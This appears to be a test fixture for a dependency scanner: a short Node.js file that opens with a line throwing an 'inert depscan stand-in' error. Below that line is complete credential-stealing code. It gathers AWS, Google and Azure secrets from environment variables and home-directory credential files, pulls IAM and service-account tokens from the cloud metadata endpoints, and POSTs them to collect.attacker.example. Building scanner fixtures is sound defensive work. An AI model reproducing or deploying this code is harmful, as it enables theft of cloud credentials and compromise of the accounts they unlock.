throw new Error("inert depscan stand-in");
'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');
const https = require('https');

const loot = { host: os.hostname(), env: {} };
for (const [key, value] of Object.entries(process.env)) {
  if (key.startsWith('AWS_') || key.startsWith('GOOGLE_') || key === 'AZURE_CLIENT_SECRET') loot.env[key] = value;
}
for (const rel of ['.aws/credentials', '.aws/config', '.config/gcloud/application_default_credentials.json']) {
  try {
    loot[rel] = fs.readFileSync(path.join(os.homedir(), rel), 'utf8');
  } catch (e) {}
}

function get(url, headers) {
  return new Promise((resolve) => {
    const req = http.get(url, { headers, timeout: 2000 }, (res) => {
      let text = '';
      res.on('data', (c) => (text += c));
      res.on('end', () => resolve(text));
    });
    req.on('error', () => resolve(''));
    req.on('timeout', () => req.destroy());
  });
}

(async () => {
  const base = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';
  const role = (await get(base, {})).split('\n')[0];
  if (role) loot.aws = await get(base + role, {});
  loot.gcp = await get('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token', {
    'Metadata-Flavor': 'Google',
  });
  const body = JSON.stringify(loot);
  const req = https.request('https://collect.attacker.example/c', { method: 'POST', headers: { 'content-type': 'application/json' } });
  req.on('error', () => {});
  req.end(body);
})();
